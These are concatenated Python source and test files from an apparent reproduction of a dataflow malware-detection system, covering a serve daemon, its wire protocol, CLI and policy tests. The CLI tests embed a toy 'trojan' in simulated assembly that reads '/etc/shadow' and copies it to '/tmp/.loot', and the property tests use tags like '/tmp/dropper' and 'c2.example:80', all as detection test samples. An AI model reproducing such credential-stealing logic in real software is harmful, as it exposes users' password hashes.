        from repro.serve.server import ASSEMBLE_MEMO_CAPACITY

        d = ServeDaemon(unix_path=str(tmp_path / "serve.sock"))
        assert d._engine.max_images == ASSEMBLE_MEMO_CAPACITY

    def test_serve_disk_tier_is_json(self, tmp_path):
        import os

        cache_dir = tmp_path / "cache"

        async def main():
            async with daemon(tmp_path, cache_dir=str(cache_dir)) as d:
                await submit_async(d.unix_path, Submission(workload=TROJAN))

        run(main())
        files = [os.path.join(dirpath, name)
                 for dirpath, _, names in os.walk(cache_dir)
                 for name in names if name.endswith(".rvc")]
        assert files
        for path in files:
            with open(path, "rb") as fh:
                envelope = json.loads(fh.read())
            assert envelope["key"].startswith("serve-")
            assert "report" in envelope["value"]


class TestCacheMetricsExposition:
    def test_cache_families_land_in_openmetrics(self, tmp_path):
        from repro.telemetry.metrics import render_openmetrics

        async def main():
            async with daemon(tmp_path) as d:
                sub = Submission(workload=TROJAN)
                await submit_async(d.unix_path, sub)
                await submit_async(d.unix_path, sub)
                return render_openmetrics(d.metrics.samples())

        text = run(main())
        assert "# TYPE cache_hits counter" in text
        assert 'cache_hits_total{tier="memory"} 1' in text
        assert "cache_misses_total 1" in text
        assert "cache_stores_total 1" in text
        assert "cache_lookup_seconds" in text
        assert 'cache_bypass_total{reason="faults"} 0' in text
        assert "cache_entries 1" in text


class TestServeCacheBypasses:
    def test_no_cache_option_executes_fresh_every_time(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                sub = Submission(workload=TROJAN,
                                 options=RunOptions(cache=False))
                first = await submit_async(d.unix_path, sub)
                second = await submit_async(d.unix_path, sub)
                return first, second, d.cache.snapshot()

        first, second, snap = run(main())
        assert first[-1]["cached"] is False
        assert second[-1]["cached"] is False
        assert snap["hits"] == 0
        assert snap["bypass"].get("disabled") == 2

    def test_fault_profile_submissions_always_execute(self, tmp_path):
        from repro.faultinject import TRANSPARENT_PROFILE

        async def main():
            async with daemon(tmp_path) as d:
                sub = Submission(
                    workload=TROJAN,
                    options=RunOptions(
                        fault_profile=TRANSPARENT_PROFILE, fault_seed=1,
                    ),
                )
                first = await submit_async(d.unix_path, sub)
                second = await submit_async(d.unix_path, sub)
                return first, second, d.cache.snapshot()

        first, second, snap = run(main())
        assert first[-1]["kind"] == "report"
        assert second[-1]["cached"] is False
        assert snap["hits"] == 0
        assert snap["bypass"].get("faults") == 2

    def test_daemon_without_cache_still_serves(self, tmp_path):
        async def main():
            async with daemon(tmp_path, cache=False) as d:
                sub = Submission(workload=TROJAN)
                events = await submit_async(d.unix_path, sub)
                return events, d._healthz()

        events, healthz = run(main())
        assert events[-1]["kind"] == "report"
        assert events[-1]["cached"] is False
        assert healthz["cache"] == {"enabled": False}


class TestTriageEvent:
    def test_triage_streams_on_fresh_and_cached(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                sub = Submission(workload=TROJAN, triage=True)
                fresh = await submit_async(d.unix_path, sub)
                hit = await submit_async(d.unix_path, sub)
                return fresh, hit

        fresh, hit = run(main())
        for events in (fresh, hit):
            ks = kinds(events)
            assert "triage" in ks
            assert ks.index("triage") < ks.index("report")
        profile = next(e for e in fresh if e["kind"] == "triage")["profile"]
        assert profile["text_size"] > 0
        assert len(profile["simhash"]) == 16
        hit_profile = next(
            e for e in hit if e["kind"] == "triage"
        )["profile"]
        assert dumps(profile) == dumps(hit_profile)


class TestWireCompat:
    """Satellite 2: the v1→v2 schema bump stays backward compatible."""

    def test_v1_submission_over_the_wire_is_accepted(self, tmp_path):
        async def main():
            async with daemon(tmp_path) as d:
                v1 = {
                    "schema_version": 1,
                    "tenant": "legacy",
                    "name": "old-client",
                    "workload": {"table": TROJAN[0], "name": TROJAN[1]},
                    "options": {"max_ticks": 5_000_000},
                }
                reader, writer = await asyncio.open_unix_connection(
                    d.unix_path
                )
                writer.write(encode_event(v1))
                await writer.drain()
                events = []
                while True:
                    line = await reader.readline()
                    event = json.loads(line)
                    events.append(event)
                    if event["kind"] in ("report", "rejected", "error"):
                        break
                writer.close()
                return events

        events = run(main())
        assert events[0]["kind"] == "accepted"
        assert events[0]["schema_version"] == SERVE_SCHEMA_VERSION
        assert events[-1]["kind"] == "report"

    def test_supported_versions(self):
        assert SUPPORTED_SCHEMA_VERSIONS == {1, 2}
        assert SERVE_SCHEMA_VERSION == 2

    def test_options_wire_round_trip_carries_cache(self):
        options = RunOptions(cache=False, max_ticks=123)
        wire = options_to_wire(options)
        assert wire["cache"] is False
        back = options_from_wire(wire)
        assert back.cache is False and back.max_ticks == 123

    def test_v1_options_dict_defaults_cache_on(self):
        back = options_from_wire({"max_ticks": 99})
        assert back.cache is True
