"""The serve wire protocol: submissions in, event streams out.

One submission travels as a single JSON object; the daemon answers with
a stream of JSON event objects (newline-delimited over a socket, chunked
over HTTP) and closes after a terminal event.  Everything on the wire is
plain JSON — the protocol is what lets a submission cross from any
client into a worker *process* unchanged, so the wire codec here is also
the job codec the supervisor hands to workers.

Submission forms (exactly one):

* **inline source** — guest assembly text plus its environment (argv,
  stdin script, seeded files, network peers), the shape ``repro run``
  takes from the shell;
* **registry workload** — ``{"table": "4", "name": "Remote"}`` naming a
  row of the paper's evaluation registries; the worker resolves it like
  a fleet worker does, setup callbacks included.

Event kinds, in stream order::

    accepted  {job, queue_depth}            admission succeeded
    rejected  {reason}                      terminal: backpressure/limits
    warning   {seq, warning:{rule,...}}     streamed as Secpert fires
    report    {report:{...}, timing:{...}}  terminal: the full RunReport
    error     {code, error, timing}         terminal: contained failure

The ``report`` dict inside the terminal event is byte-for-byte
``RunReport.to_dict()`` — identical to what a batch ``Session.run`` of
the same submission produces (the serve differential tests hold that
line).

Schema discipline mirrors the fleet wire format: every stream opens with
an event carrying ``schema_version`` (:data:`SERVE_SCHEMA_VERSION`);
bump it on any breaking layout change.

v2 (verdict cache): submissions may carry ``options.cache`` and a
``triage`` flag; ``accepted``/``report`` events carry ``cached: bool``
and a ``triage`` event (non-terminal) streams the static profile when
requested.  v1 submissions are still accepted — the new fields default
off, and v1 clients ignore event keys they do not know.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field, replace
from typing import Dict, Mapping, Optional, Tuple

from repro.core.options import DEFAULT_MAX_TICKS, RunOptions

#: Version of the serve wire format (submissions and events).
SERVE_SCHEMA_VERSION = 2

#: Versions this daemon accepts: additions in v2 are optional, so v1
#: submissions decode unchanged.
SUPPORTED_SCHEMA_VERSIONS = frozenset({1, SERVE_SCHEMA_VERSION})

#: Terminal event kinds — after one of these the stream is complete.
TERMINAL_KINDS = frozenset({"rejected", "report", "error"})

#: Scalar FaultProfile fields that may travel on the wire (the same set
#: ``repro chaos`` exposes as CLI overrides).  Collection-valued fields
#: (eligible syscall sets, errno palettes) keep their profile defaults.
_FAULT_SCALARS = (
    "stall_rate", "errno_rate", "connect_reset_rate",
    "resolve_fail_rate", "quantum_jitter", "max_faults",
)


class ProtocolError(ValueError):
    """A submission or event that does not follow the wire contract."""


# ---------------------------------------------------------------------------
# RunOptions <-> wire


def options_to_wire(options: RunOptions) -> Dict[str, object]:
    """The JSON-safe subset of :class:`RunOptions` a submission carries.

    Policy and HarrierConfig overrides are server-side concerns and do
    not travel; fault profiles travel as their scalar rates plus the
    schedule seed (collection fields keep defaults).
    """
    wire: Dict[str, object] = {
        "block_cache": options.block_cache,
        "taint_fastpath": options.taint_fastpath,
        "provenance": options.provenance,
        "rete": options.rete,
        "metrics": options.metrics,
        "max_ticks": options.max_ticks,
        "wall_timeout": options.wall_timeout,
        "cache": options.cache,
    }
    if options.fault_profile is not None:
        wire["fault"] = {
            "seed": options.fault_seed,
            **{
                name: getattr(options.fault_profile, name)
                for name in _FAULT_SCALARS
            },
        }
    return wire


def options_from_wire(data: Optional[Mapping[str, object]]) -> RunOptions:
    """Rebuild a :class:`RunOptions` from its wire dict (missing keys
    keep their defaults, unknown keys are rejected)."""
    if data is None:
        return RunOptions()
    data = dict(data)
    fault = data.pop("fault", None)
    allowed = {
        "block_cache", "taint_fastpath", "provenance", "rete", "metrics",
        "max_ticks", "wall_timeout", "cache",
    }
    unknown = set(data) - allowed
    if unknown:
        raise ProtocolError(f"unknown options field(s): {sorted(unknown)}")
    options = RunOptions(
        block_cache=bool(data.get("block_cache", True)),
        taint_fastpath=bool(data.get("taint_fastpath", True)),
        provenance=bool(data.get("provenance", True)),
        rete=bool(data.get("rete", True)),
        metrics=bool(data.get("metrics", False)),
        cache=bool(data.get("cache", True)),
        max_ticks=int(data.get("max_ticks", DEFAULT_MAX_TICKS)),
        wall_timeout=(
            float(data["wall_timeout"])
            if data.get("wall_timeout") is not None else None
        ),
    )
    if fault is not None:
        from repro.faultinject.plan import FaultProfile

        fault = dict(fault)
        seed = int(fault.pop("seed", 0))
        unknown = set(fault) - set(_FAULT_SCALARS)
        if unknown:
            raise ProtocolError(
                f"unknown fault field(s): {sorted(unknown)}"
            )
        profile = FaultProfile(**fault)
        options = replace(
            options, fault_profile=profile, fault_seed=seed
        )
    return options


# ---------------------------------------------------------------------------
# submissions


@dataclass(frozen=True)
class Submission:
    """One unit of serve work: what to run, as what, for whom."""

    #: Inline guest assembly source (one of ``source``/``workload``).
    source: Optional[str] = None
    #: Registry row reference: ``(table_key, workload_name)``.
    workload: Optional[Tuple[str, str]] = None
    #: Guest path identity for inline source.
    path: str = "/bin/guest"
    argv: Optional[Tuple[str, ...]] = None
    stdin: Optional[str] = None
    #: Files seeded into the simulated fs before the run.
    files: Mapping[str, str] = field(default_factory=dict)
    #: Network peers: ``"host:port" -> opening payload`` ("" registers a
    #: plain data sink, anything else a conversation peer that pushes
    #: the payload on connect — the ``--peer``/``--serve`` CLI split).
    peers: Mapping[str, str] = field(default_factory=dict)
    options: RunOptions = field(default_factory=RunOptions)
    #: Admission identity: budgets and rate limits are per tenant.
    tenant: str = "default"
    #: Free-form label echoed back in events (debugging, load tests).
    name: str = ""
    #: Stream a static :class:`~repro.cache.triage.TriageProfile` event
    #: (non-terminal) before the run/hit.  Wire schema v2.
    triage: bool = False

    def __post_init__(self) -> None:
        if (self.source is None) == (self.workload is None):
            raise ProtocolError(
                "a submission needs exactly one of source= or workload="
            )

    def to_wire(self) -> Dict[str, object]:
        wire: Dict[str, object] = {
            "schema_version": SERVE_SCHEMA_VERSION,
            "tenant": self.tenant,
            "name": self.name,
            "options": options_to_wire(self.options),
        }
        if self.workload is not None:
            wire["workload"] = {
                "table": self.workload[0], "name": self.workload[1],
            }
        else:
            wire["source"] = self.source
            wire["path"] = self.path
            if self.argv is not None:
                wire["argv"] = list(self.argv)
            if self.stdin is not None:
                wire["stdin"] = self.stdin
            if self.files:
                wire["files"] = dict(self.files)
            if self.peers:
                wire["peers"] = dict(self.peers)
        if self.triage:
            wire["triage"] = True
        return wire

    @classmethod
    def from_wire(cls, data: Mapping[str, object]) -> "Submission":
        if not isinstance(data, Mapping):
            raise ProtocolError("submission must be a JSON object")
        version = data.get("schema_version", SERVE_SCHEMA_VERSION)
        if version not in SUPPORTED_SCHEMA_VERSIONS:
            raise ProtocolError(
                f"unsupported schema_version {version!r} "
                f"(this daemon speaks "
                f"{sorted(SUPPORTED_SCHEMA_VERSIONS)})"
            )
        workload = data.get("workload")
        if workload is not None:
            workload = (str(workload["table"]), str(workload["name"]))
        source = data.get("source")
        if source is not None:
            source = str(source)
        argv = data.get("argv")
        return cls(
            source=source,
            workload=workload,
            path=str(data.get("path", "/bin/guest")),
            argv=tuple(str(a) for a in argv) if argv is not None else None,
            stdin=(
                str(data["stdin"]) if data.get("stdin") is not None else None
            ),
            files={
                str(k): str(v) for k, v in (data.get("files") or {}).items()
            },
            peers={
                str(k): str(v) for k, v in (data.get("peers") or {}).items()
            },
            options=options_from_wire(data.get("options")),
            tenant=str(data.get("tenant", "default")),
            name=str(data.get("name", "")),
            triage=bool(data.get("triage", False)),
        )


# ---------------------------------------------------------------------------
# events


def encode_event(event: Mapping[str, object]) -> bytes:
    """One event as an NDJSON line."""
    return (json.dumps(event, default=str) + "\n").encode("utf-8")


def decode_line(line: bytes) -> Dict[str, object]:
    try:
        data = json.loads(line.decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise ProtocolError(f"undecodable wire line: {exc}") from None
    if not isinstance(data, dict):
        raise ProtocolError("wire line must decode to a JSON object")
    return data


def accepted_event(
    job: str, queue_depth: int, cached: bool = False
) -> Dict[str, object]:
    return {
        "kind": "accepted",
        "schema_version": SERVE_SCHEMA_VERSION,
        "job": job,
        "queue_depth": queue_depth,
        "cached": cached,
    }


def triage_event(job: str, profile: Dict[str, object]) -> Dict[str, object]:
    """Non-terminal: the static triage profile of the submitted image."""
    return {
        "kind": "triage",
        "schema_version": SERVE_SCHEMA_VERSION,
        "job": job,
        "profile": profile,
    }


def rejected_event(reason: str, detail: str = "") -> Dict[str, object]:
    return {
        "kind": "rejected",
        "schema_version": SERVE_SCHEMA_VERSION,
        "reason": reason,
        "detail": detail,
    }
