"""Filesystem tests: nodes, flags, listings, FIFOs, /proc synthesis."""

import pytest

from repro.kernel import (
    FileSystem,
    NodeKind,
    O_CREAT,
    O_RDONLY,
    O_TRUNC,
    O_WRONLY,
)
from repro.kernel.errors import EEXIST, EISDIR, ENOENT


@pytest.fixture
def fs():
    return FileSystem()


class TestNamespace:
    def test_initial_directories(self, fs):
        assert fs.exists(".")
        assert fs.exists("/")
        assert fs.exists("/tmp")

    def test_create_and_read(self, fs):
        fs.write_text("/a.txt", "hello")
        assert fs.read_text("/a.txt") == "hello"
        assert fs.lookup("/a.txt").kind is NodeKind.FILE

    def test_read_missing_raises(self, fs):
        with pytest.raises(FileNotFoundError):
            fs.read_text("/ghost")

    def test_unlink(self, fs):
        fs.write_text("/a", "x")
        assert fs.unlink("/a") == 0
        assert not fs.exists("/a")
        assert fs.unlink("/a") == -ENOENT

    def test_chmod(self, fs):
        fs.write_text("/a", "x")
        assert fs.chmod("/a", 0o755) == 0
        assert fs.lookup("/a").is_executable()
        assert fs.chmod("/ghost", 0o755) == -ENOENT

    def test_mkfifo(self, fs):
        assert fs.mkfifo("/pipe") == 0
        assert fs.lookup("/pipe").kind is NodeKind.FIFO
        assert fs.mkfifo("/pipe") == -EEXIST

    def test_paths_sorted(self, fs):
        fs.write_text("zz", "")
        fs.write_text("aa", "")
        paths = fs.paths()
        assert paths.index("aa") < paths.index("zz")


class TestListings:
    def test_dot_lists_relative_paths(self, fs):
        fs.write_text("alpha", "")
        fs.write_text("beta", "")
        fs.write_text("/abs", "")
        listing = fs.listing(".")
        assert "alpha\n" in listing
        assert "beta\n" in listing
        assert "abs" not in listing

    def test_directory_prefix_listing(self, fs):
        fs.write_text("/tmp/one", "")
        fs.write_text("/tmp/two", "")
        fs.write_text("/etc/other", "")
        listing = fs.listing("/tmp")
        assert listing == "one\ntwo\n"


class TestResolveOpen:
    def test_open_existing(self, fs):
        fs.write_text("/a", "data")
        node, err = fs.resolve_open("/a", O_RDONLY)
        assert err == 0
        assert bytes(node.data) == b"data"

    def test_open_missing_without_creat(self, fs):
        node, err = fs.resolve_open("/ghost", O_RDONLY)
        assert node is None
        assert err == -ENOENT

    def test_open_creat_creates(self, fs):
        node, err = fs.resolve_open("/new", O_WRONLY | O_CREAT)
        assert err == 0
        assert fs.exists("/new")

    def test_trunc_clears(self, fs):
        fs.write_text("/a", "old data")
        node, err = fs.resolve_open("/a", O_WRONLY | O_TRUNC)
        assert err == 0
        assert bytes(node.data) == b""

    def test_write_open_of_directory_rejected(self, fs):
        node, err = fs.resolve_open("/tmp", O_WRONLY)
        assert node is None
        assert err == -EISDIR

    def test_read_open_of_directory_allowed(self, fs):
        node, err = fs.resolve_open("/tmp", O_RDONLY)
        assert err == 0

    def test_proc_environ_synthesis(self, fs):
        node, err = fs.resolve_open("/proc/7/environ", O_RDONLY,
                                    procs_environ="A=1\0B=2\0")
        assert err == 0
        assert bytes(node.data) == b"A=1\x00B=2\x00"
