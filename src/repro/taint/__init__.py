"""Multi-source taint model (paper section 5.1).

Public surface:

* :class:`DataSource` — the resource-type vocabulary.
* :class:`Tag` — one provenance record (source type + resource name).
* :class:`TagSet` — immutable set of tags; union is the dataflow operation.
* :class:`ShadowRegisters` / :class:`ShadowMemory` — per-location tag stores.
"""

from repro.taint.shadow import (
    PAGE_SIZE,
    ShadowMemory,
    ShadowRegisters,
)
from repro.taint.tags import (
    EMPTY,
    DataSource,
    Tag,
    TagSet,
    TagSetInterner,
    union_all,
)

__all__ = [
    "DataSource",
    "Tag",
    "TagSet",
    "TagSetInterner",
    "EMPTY",
    "union_all",
    "ShadowRegisters",
    "ShadowMemory",
    "PAGE_SIZE",
]
