"""CLI tests (python -m repro)."""

import json

import pytest

from repro.cli import main

TROJAN_SOURCE = """
main:
    mov ebx, secret
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    mov edi, eax
    mov ebx, esi
    call close
    mov ebx, drop
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, edi
    call write
    mov eax, 0
    ret
.data
secret: .asciz "/etc/shadow"
drop: .asciz "/tmp/.loot"
buf: .space 64
"""

HELLO_SOURCE = """
main:
    mov ebx, msg
    call print
    mov eax, 0
    ret
.data
msg: .asciz "hi there"
"""


@pytest.fixture
def trojan_file(tmp_path):
    path = tmp_path / "trojan.s"
    path.write_text(TROJAN_SOURCE)
    return str(path)


@pytest.fixture
def hello_file(tmp_path):
    path = tmp_path / "hello.s"
    path.write_text(HELLO_SOURCE)
    return str(path)


class TestRunCommand:
    def test_benign_run(self, hello_file, capsys):
        code = main(["run", hello_file])
        out = capsys.readouterr().out
        assert code == 0
        assert "verdict : BENIGN" in out
        assert "hi there" in out

    def test_detection_with_fail_on(self, trojan_file, capsys):
        code = main([
            "run", trojan_file,
            "--file", "/etc/shadow=root:hash",
            "--fail-on", "high",
        ])
        out = capsys.readouterr().out
        assert code == 1
        assert "verdict : HIGH" in out
        assert "Secpert advice" in out

    def test_fail_on_not_reached(self, hello_file):
        assert main(["run", hello_file, "--fail-on", "low"]) == 0

    def test_guest_path_override(self, hello_file, capsys):
        main(["run", hello_file, "--path", "/usr/bin/custom"])
        assert "/usr/bin/custom" in capsys.readouterr().out

    def test_events_dump(self, trojan_file, capsys):
        main(["run", trojan_file, "--file", "/etc/shadow=x", "--events"])
        out = capsys.readouterr().out
        assert "Harrier events" in out
        assert "SYS_open" in out

    def test_serve_option_feeds_data(self, tmp_path, capsys):
        source = tmp_path / "dl.s"
        source.write_text("""
main:
    mov ebx, host
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 80
    push ebx
    call connect_addr
    pop ebx
    mov ecx, buf
    mov edx, 32
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
host: .asciz "srv.example"
buf: .space 32
""")
        code = main(["run", str(source), "--serve",
                     "srv.example:80=served-bytes"])
        out = capsys.readouterr().out
        assert code == 0
        assert "served-bytes" in out

    def test_no_dataflow_flag(self, trojan_file, capsys):
        code = main([
            "run", trojan_file,
            "--file", "/etc/shadow=x",
            "--no-dataflow",
        ])
        out = capsys.readouterr().out
        assert code == 0
        assert "verdict : BENIGN" in out  # no provenance, no warnings

    def test_bad_file_option(self, hello_file):
        with pytest.raises(SystemExit):
            main(["run", hello_file, "--file", "no-equals-sign"])

    def test_missing_source(self, capsys):
        assert main(["run", "/no/such/file.s"]) == 2

    def test_assembly_error(self, tmp_path, capsys):
        bad = tmp_path / "bad.s"
        bad.write_text("main:\n  frobnicate eax\n")
        assert main(["run", str(bad)]) == 2
        assert "assembly error" in capsys.readouterr().err


class TestAuditCommand:
    def test_insecure_binary(self, trojan_file, capsys):
        code = main(["audit", trojan_file])
        out = capsys.readouterr().out
        assert code == 1
        assert "NOT SECURE" in out
        assert "/etc/shadow" in out

    def test_secure_binary(self, hello_file, capsys):
        # `print` writes string content hardcoded in the app... the hello
        # message reaches print -> flagged as resource content; a truly
        # clean program touches no resources.
        clean = hello_file.replace("hello.s", "clean.s")
        import pathlib

        pathlib.Path(clean).write_text(
            "main:\n  mov eax, 0\n  ret\n"
        )
        assert main(["audit", clean]) == 0


class TestInstrumentCommand:
    def test_listing(self, hello_file, capsys):
        assert main(["instrument", hello_file]) == 0
        out = capsys.readouterr().out
        assert "Call Track_DataFlow" in out
        assert "Call Collect_BB_Frequency" in out


class TestTableCommand:
    def test_table4(self, capsys):
        assert main(["table", "4"]) == 0
        out = capsys.readouterr().out
        assert "Infrequent execve" in out
        assert "MISMATCH" not in out

    def test_table5(self, capsys):
        assert main(["table", "5"]) == 0

    def test_ext_table(self, capsys):
        assert main(["table", "ext"]) == 0
        assert "lodeight" in capsys.readouterr().out


class TestChaosCommand:
    def test_seed_replay_is_deterministic(self, capsys):
        argv = ["chaos", "--table", "8", "--workload", "pma",
                "--seed", "42", "--show-faults"]
        assert main(argv) == 0
        first = capsys.readouterr().out
        assert main(argv) == 0
        second = capsys.readouterr().out
        assert first == second
        assert "pma" in first
        assert "stable" in first

    def test_unknown_workload_rejected(self):
        with pytest.raises(SystemExit):
            main(["chaos", "--table", "8", "--workload", "nope"])


class TestProfileCommand:
    def test_breakdown_printed(self, trojan_file, capsys):
        code = main([
            "profile", trojan_file, "--file", "/etc/shadow=root:hash",
        ])
        out = capsys.readouterr().out
        assert code == 0
        for stage in ("native", "bbfreq", "dataflow", "analysis"):
            assert stage in out
        assert "full monitor" in out
        assert "instructions retired" in out
        assert "secpert rule firings" in out

    def test_benign_program_profiles_too(self, hello_file, capsys):
        assert main(["profile", hello_file]) == 0
        assert "verdict=benign" in capsys.readouterr().out


class TestTraceAndMetricsFlags:
    def test_run_trace_chrome_schema(self, trojan_file, tmp_path, capsys):
        trace = tmp_path / "trace.json"
        code = main([
            "run", trojan_file, "--file", "/etc/shadow=x",
            "--trace", str(trace),
        ])
        assert code == 0
        assert str(trace) in capsys.readouterr().out
        data = json.loads(trace.read_text())
        assert data["displayTimeUnit"] == "ms"
        events = data["traceEvents"]
        complete = [e for e in events if e["ph"] == "X"]
        assert complete
        for event in complete:
            assert set(event) >= {
                "name", "cat", "ts", "dur", "pid", "tid", "args"
            }
        cats = {e["cat"] for e in complete}
        assert {"run", "process", "syscall", "analysis"} <= cats
        # the trojan's syscalls all have spans
        names = [e["name"] for e in complete if e["cat"] == "syscall"]
        assert names.count("SYS_open") == 2
        assert "SYS_read" in names and "SYS_write" in names

    def test_run_trace_jsonl(self, hello_file, tmp_path):
        trace = tmp_path / "trace.jsonl"
        assert main(["run", hello_file, "--trace", str(trace)]) == 0
        spans = [
            json.loads(line)
            for line in trace.read_text().strip().splitlines()
        ]
        assert spans
        assert all("span_id" in s and "category" in s for s in spans)

    def test_run_metrics_dump(self, hello_file, capsys):
        assert main(["run", hello_file, "--metrics"]) == 0
        out = capsys.readouterr().out
        assert "telemetry metrics" in out
        assert "cpu_instructions_total" in out
        assert "kernel_syscalls_total{name=SYS_write}" in out

    def test_table_trace_one_track_per_workload(self, tmp_path, capsys):
        trace = tmp_path / "table.json"
        assert main(["table", "4", "--trace", str(trace)]) == 0
        data = json.loads(trace.read_text())
        meta = [
            e for e in data["traceEvents"]
            if e["ph"] == "M" and e["name"] == "process_name"
        ]
        labels = {e["args"]["name"] for e in meta}
        assert "Infrequent execve" in labels
        assert len(meta) > 2  # one track per workload


class TestReportCommand:
    def test_report_writes_markdown_and_json(self, tmp_path, capsys):
        out = tmp_path / "report.md"
        code = main(["report", "-o", str(out)])
        assert code == 0
        text = out.read_text()
        assert "# HTH reproduction report" in text
        assert "## Table 8" in text
        assert "| pma |" in text
        assert "| NO |" not in text  # no mismatches
        # the newline handling is real (regression: a no-op replace)
        assert text.count("\n") > 20
        data = json.loads((tmp_path / "report.json").read_text())
        assert data["mismatches"] == 0
        rows = {r["benchmark"]: r for r in data["rows"]}
        assert rows["pma"]["match"] is True
        assert rows["pma"]["expected"] == rows["pma"]["measured"]
