"""Property-based tests on the policy's severity grading.

Invariants the rules should satisfy regardless of the concrete tags:

* *monotonicity* — adding suspicious provenance (an untrusted BINARY tag
  or a SOCKET tag) to an identifier never lowers a flow's severity;
* *trust soundness* — flows whose identifiers derive only from trusted
  binaries and user input never warn;
* *filter correctness* — trusted names never appear in filter output.
"""

from hypothesis import given
from hypothesis import strategies as st

from repro.harrier.events import DataTransferEvent, ResourceId
from repro.kernel.process import ResourceKind
from repro.secpert import PolicyConfig, Secpert
from repro.taint import DataSource, Tag, TagSet

_trusted_tags = st.sampled_from([
    Tag(DataSource.BINARY, "/lib/libc.so"),
    Tag(DataSource.BINARY, "[startup]"),
    Tag(DataSource.USER_INPUT, None),
])
_suspicious_tags = st.sampled_from([
    Tag(DataSource.BINARY, "/home/evil/a.out"),
    Tag(DataSource.BINARY, "/tmp/dropper"),
    Tag(DataSource.SOCKET, "c2.example:80"),
])
_any_tags = st.one_of(_trusted_tags, _suspicious_tags)


def tagset(tags):
    return TagSet(tags)


def write_event(data_tags, resource_origin, source_origins=()):
    return DataTransferEvent(
        pid=1, time=10, frequency=5, address="1000",
        call_name="SYS_write", direction="write",
        resource=ResourceId(ResourceKind.FILE, "/tmp/out"),
        data_tags=data_tags,
        resource_origin=resource_origin,
        source_origins=source_origins,
        length=4,
    )


def max_severity(warnings):
    return max((w.severity for w in warnings), default=None)


class TestGradingProperties:
    @given(st.frozensets(_any_tags, max_size=4), _suspicious_tags)
    def test_adding_suspicion_never_lowers_severity(self, base, extra):
        """For a fixed hardcoded data payload, making the *target name*
        more suspicious can only raise (or keep) the verdict."""
        data = TagSet.of(DataSource.BINARY, "/home/evil/a.out")
        baseline = max_severity(
            Secpert().analyze(write_event(data, tagset(base)))
        )
        widened = max_severity(
            Secpert().analyze(
                write_event(data, tagset(set(base) | {extra}))
            )
        )
        if baseline is not None:
            assert widened is not None
            assert widened >= baseline

    @given(st.frozensets(_trusted_tags, max_size=3))
    def test_fully_trusted_flows_never_warn(self, origin_tags):
        """User data to a user/trusted-named file is always clean."""
        data = TagSet.of(DataSource.USER_INPUT)
        warnings = Secpert().analyze(
            write_event(data, tagset(origin_tags))
        )
        assert warnings == []

    @given(st.frozensets(_any_tags, max_size=5))
    def test_filters_never_leak_trusted_names(self, tags):
        policy = PolicyConfig()
        origin = tagset(tags)
        for name in policy.filter_binary(origin):
            assert name not in policy.trusted_binaries

    @given(st.frozensets(_any_tags, max_size=4))
    def test_analysis_is_deterministic(self, tags):
        """Same event, same verdict — the engine has no hidden state that
        changes a fresh analysis."""
        data = TagSet.of(DataSource.BINARY, "/home/evil/a.out")
        event = write_event(data, tagset(tags))
        first = [w.severity for w in Secpert().analyze(event)]
        second = [w.severity for w in Secpert().analyze(event)]
        assert first == second

    @given(st.frozensets(_any_tags, min_size=1, max_size=4))
    def test_source_grid_symmetric_in_low_band(self, origin_tags):
        """hard->user and user->hard grade identically (both Low) for
        named-resource flows (section 4.3 rule 1's symmetry)."""
        policy = PolicyConfig()
        hard = tagset({Tag(DataSource.BINARY, "/home/evil/a.out")})
        user = tagset({Tag(DataSource.USER_INPUT, None)})
        file_tag = Tag(DataSource.FILE, "/data")

        def grade(src_origin, dst_origin):
            event = write_event(
                TagSet((file_tag,)), dst_origin,
                source_origins=((file_tag, src_origin),),
            )
            return max_severity(Secpert().analyze(event))

        assert grade(hard, user) == grade(user, hard)
