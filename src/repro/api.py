"""repro.api — the one-import facade over the whole stack.

Benchmarks, tests, the CLI, and the fleet worker entrypoint used to
import five internal modules each (``repro.core.hth``,
``repro.harrier.config``, ``repro.telemetry``, ``repro.faultinject``,
``repro.isa.assembler``) just to run one guest.  This module collapses
that to::

    from repro.api import Session, RunOptions

    session = Session(RunOptions(metrics=True))
    report = session.run(program_image)           # or a source string
    report = session.run_workload(workload)       # a registry row

A :class:`Session` is a *warm* execution context: it owns an
:class:`~repro.core.engine.EngineCache` (translated-block store +
tag-set interner + assemble memo) that every run it makes reuses.  One
fleet worker builds one Session per shard; sweeps and benchmarks get
the same reuse for free.  Machines are still fresh per run — a Session
never shares kernel, filesystem, monitor, or analyzer state between
runs, so reports remain bit-identical to cold, one-shot execution
(``tests/harrier/test_blockcache_differential.py`` and the fleet
determinism suite hold that line).

Module-level :func:`run` / :func:`run_workload` are one-shot
conveniences that build a throwaway Session.
"""

from __future__ import annotations

from typing import Callable, Dict, Optional, Sequence, Union

from repro.core.engine import EngineCache
from repro.core.hth import HTH
from repro.core.options import RunOptions
from repro.core.report import RunReport
from repro.isa.image import Image
from repro.programs.base import Workload
from repro.telemetry import Telemetry

SetupFn = Callable[[HTH], None]


class Session:
    """A warm run context: one options default + one engine cache.

    ``options`` set the session-wide defaults; every ``run*`` call may
    override them for that run.  ``telemetry`` (optional) is a *shared*
    hub sampled by every run — pass it when aggregating one registry
    across a sweep (``repro table --metrics``).  Without a shared hub,
    runs whose options request telemetry get a fresh hub each, and its
    snapshot travels inside the returned report — the shape the fleet
    coordinator merges.
    """

    def __init__(
        self,
        options: Optional[RunOptions] = None,
        telemetry: Optional[Telemetry] = None,
    ) -> None:
        self.options = options if options is not None else RunOptions()
        self.telemetry = telemetry
        self.engine = EngineCache()
        self.runs = 0

    # -- machine building --------------------------------------------------
    def machine(
        self,
        options: Optional[RunOptions] = None,
        telemetry: Optional[Telemetry] = None,
        fault_injector=None,
        setup: Optional[SetupFn] = None,
        analyzer=None,
    ) -> HTH:
        """A fresh monitored machine wired to this session's warm engine.

        ``analyzer`` overrides the default Secpert instance — the serve
        daemon passes a :class:`repro.serve.streaming.TapAnalyzer` here
        so warnings stream out as they fire.
        """
        options = options if options is not None else self.options
        hth = HTH(
            telemetry=telemetry if telemetry is not None else self.telemetry,
